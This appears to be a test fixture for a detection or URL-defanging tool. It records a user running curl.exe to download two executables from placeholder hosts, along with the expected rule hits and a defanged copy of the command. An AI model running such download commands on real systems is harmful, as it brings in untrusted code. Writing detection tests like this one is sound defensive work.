person ana
10:02 ana call-in +442079460031 14m
10:08 ana run C:\Windows\System32\curl.exe cmd="curl.exe https://a.example/x.exe https://files.example/y.exe"
expect: ana hits=C9,F7 says="curl.exe hxxps://a[.]example/x.exe hxxps://files[.]example/y.exe"
